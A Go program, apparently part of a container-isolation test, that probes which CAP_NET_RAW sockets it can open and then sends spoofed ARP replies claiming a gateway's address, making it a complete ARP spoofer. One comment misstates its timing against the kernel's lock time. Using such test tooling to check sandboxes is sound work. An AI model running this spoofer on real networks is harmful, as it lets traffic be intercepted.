//go:build linux

// Command netprobe is the ARP spoofer of the installer attack test: run in
// a container (compiled statically), it tries to open the sockets that
// need CAP_NET_RAW and prints one line per socket, "NAME ok" or
// "NAME errno=<number>"; then, if a packet socket opened, it sends a
// neighbour unicast ARP replies claiming that an address (the gateway's)
// is at this container's MAC, and prints "ARP sent N" (or "ARP errno=...").
//
//	netprobe IFACE TARGET_IP TARGET_MAC CLAIMED_IP COUNT
//
// The replies are paced (one every 100 ms) so that each one lands after
// the neighbour's lock time (1 s by default, during which Linux ignores a
// new address for a known entry), as a real spoofer does.
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 6 {
		fmt.Fprintln(os.Stderr, "usage: netprobe IFACE TARGET_IP TARGET_MAC CLAIMED_IP COUNT")
		os.Exit(2)
	}
	iface, err := net.InterfaceByName(os.Args[1])
	fatal(err)
	target, err := netip.ParseAddr(os.Args[2])
	fatal(err)
	targetMAC, err := net.ParseMAC(os.Args[3])
	fatal(err)
	claimed, err := netip.ParseAddr(os.Args[4])
	fatal(err)
	count, err := strconv.Atoi(os.Args[5])
	fatal(err)
	if !target.Is4() || !claimed.Is4() || len(targetMAC) != 6 || len(iface.HardwareAddr) != 6 {
		fatal(fmt.Errorf("IPv4 addresses and Ethernet interfaces only"))
	}

	// The sockets CAP_NET_RAW guards. The packet socket of the spoofer is
	// the first one; the others are closed at once.
	fd, packetErr := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ARP)))
	report("PACKET_RAW", packetErr)
	for _, s := range []struct {
		name           string
		domain, typ, p int
	}{
		{"PACKET_DGRAM", unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_ALL))},
		{"INET_RAW", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
		{"INET6_RAW", unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
	} {
		other, err := unix.Socket(s.domain, s.typ, s.p)
		report(s.name, err)
		if err == nil {
			unix.Close(other)
		}
	}
	if packetErr != nil {
		return
	}
	defer unix.Close(fd)

	frame := arpReply(iface.HardwareAddr, targetMAC, claimed.As4(), target.As4())
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ARP), Ifindex: iface.Index, Halen: 6}
	copy(to.Addr[:], targetMAC)
	sent := 0
	for i := range count {
		if i > 0 {
			time.Sleep(100 * time.Millisecond) // the attack's pace, see the package comment
		}
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			report("ARP", err)
			break
		}
		sent++
	}
	fmt.Println("ARP sent", sent, "from", iface.HardwareAddr)
}

// arpReply is an Ethernet frame holding the ARP reply "claimed is at
// mine", addressed to the target alone.
func arpReply(mine, targetMAC net.HardwareAddr, claimed, target [4]byte) []byte {
	f := make([]byte, 0, 42)
	f = append(f, targetMAC...)
	f = append(f, mine...)
	f = binary.BigEndian.AppendUint16(f, unix.ETH_P_ARP)
	f = binary.BigEndian.AppendUint16(f, 1)      // hardware type: Ethernet
	f = binary.BigEndian.AppendUint16(f, 0x0800) // protocol type: IPv4
	f = append(f, 6, 4)                          // address lengths
	f = binary.BigEndian.AppendUint16(f, 2)      // operation: reply
	f = append(f, mine...)
	f = append(f, claimed[:]...)
	f = append(f, targetMAC...)
	f = append(f, target[:]...)
	return f
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func report(name string, err error) {
	if err == nil {
		fmt.Println(name, "ok")
		return
	}
	if e, ok := err.(syscall.Errno); ok {
		fmt.Printf("%s errno=%d\n", name, int(e))
		return
	}
	fmt.Println(name, err)
}

func fatal(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "netprobe:", err)
		os.Exit(1)
	}
}
